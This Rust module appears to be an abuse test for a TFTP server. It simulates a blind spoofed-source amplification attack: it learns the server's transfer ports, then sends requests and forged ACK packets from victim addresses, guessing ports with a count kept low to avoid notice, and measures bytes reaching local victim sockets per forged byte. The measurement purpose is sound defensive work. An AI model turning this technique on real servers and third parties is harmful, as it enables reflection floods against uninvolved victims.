//! An attacker who forges source addresses and sees no answers: measures how many bytes a victim gets for each forged
//! byte.
//!
//! First the forger sends requests from its own address, and learns the TID ports and the granted options from the
//! answers. Then it sends requests from the victim's address, and guesses: it sends ACKs to some of the ports, as if
//! the victim had received the blocks. The victim is a socket of this program that counts bytes.

use crate::abuse::attack::{Attack, address};
use std::collections::{BTreeSet, VecDeque};
use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::os::fd::AsFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread;
use std::time::Duration;
use tuffet_udp::{BindOptions, Socket};

/// The forger's own addresses, for learning the ports.
const OWN: u32 = 400;

/// Addresses of victims.
const VICTIMS: u32 = 250;

/// Guesses per request: more would be noticed.
const GUESSES: usize = 7;

/// How long to wait for an answer.
const ANSWER: Duration = Duration::from_millis(20);

/// How long to wait for an answer to the victim, which is invisible: a little more than the server needs.
const UNSEEN: Duration = Duration::from_millis(3);

/// Headers of IPv4 and UDP.
const HEADERS: u64 = 28;

/// Bytes on the wire, including headers.
#[derive(Clone, Default)]
pub(crate) struct Bytes {
    forged: Arc<AtomicU64>,
    at_victim: Arc<AtomicU64>,
}

impl Bytes {
    /// Bytes at the victims per forged byte; `None` before the first forged byte.
    pub(crate) fn factor(&self) -> Option<f64> {
        let forged = self.forged.load(Relaxed);
        (forged > 0).then(|| self.at_victim.load(Relaxed) as f64 / forged as f64)
    }
}

/// `request` has options, so the server answers with an OACK, and an ACK 0 releases a window. Another request is worth
/// more than guessing the port again for the next window.
pub(crate) fn run(attack: &Attack, request: &[u8], bytes: &Bytes) -> io::Result<()> {
    let ports = learn(attack, request)?;
    let mut victims = VecDeque::new();
    for round in 0_usize.. {
        if attack.stop.load(Relaxed) {
            break;
        }
        // Another port each time, open for a while: a request from the same port would be a retransmission.
        let victim = victim(OWN + round as u32 % VICTIMS)?;
        let forge = |packet: &[u8], to: SocketAddr| {
            if victim.send_to(packet, to).is_ok() {
                bytes.forged.fetch_add(packet.len() as u64 + HEADERS, Relaxed);
                attack.sent.fetch_add(1, Relaxed);
            }
        };
        forge(request, attack.server);
        thread::sleep(UNSEEN);
        // Guesses other ports each time, spread over all of them.
        for guess in 0..GUESSES.min(ports.len()) {
            forge(&[0, 4, 0, 0], ports[(round * 131 + guess * 37) % ports.len()]);
        }
        victims.push_back(victim);
        if victims.len() > VICTIMS as usize
            && let Some(oldest) = victims.pop_front()
        {
            bytes.at_victim.fetch_add(received(&oldest), Relaxed);
        }
    }
    thread::sleep(ANSWER);
    for victim in &victims {
        bytes.at_victim.fetch_add(received(victim), Relaxed);
    }
    Ok(())
}

/// A victim's socket, with a receive buffer for a window.
fn victim(number: u32) -> io::Result<UdpSocket> {
    let socket = Socket::bind((address(number), 0).into(), BindOptions::default())?;
    Ok(UdpSocket::from(socket.as_fd().try_clone_to_owned()?))
}

/// Returns the TID ports of the server.
fn learn(attack: &Attack, request: &[u8]) -> io::Result<Vec<SocketAddr>> {
    let mut ports = BTreeSet::new();
    for number in 0..OWN {
        let own = UdpSocket::bind((address(number), 0))?;
        own.set_read_timeout(Some(ANSWER))?;
        own.send_to(request, attack.server)?;
        let Ok((_, port)) = own.recv_from(&mut [0; 2_000]) else { continue };
        ports.insert(port);
        // An ERROR ends the transfer.
        own.send_to(b"\0\x05\0\0\0", port)?;
    }
    if ports.is_empty() {
        return Err(io::Error::other("the server answers nothing that ports could be learnt from"));
    }
    Ok(ports.into_iter().collect())
}

fn received(victim: &UdpSocket) -> u64 {
    let (mut room, mut sum) = ([0; 65_536], 0);
    while let Ok((length, _)) = victim.recv_from(&mut room) {
        sum += length as u64 + HEADERS;
    }
    sum
}
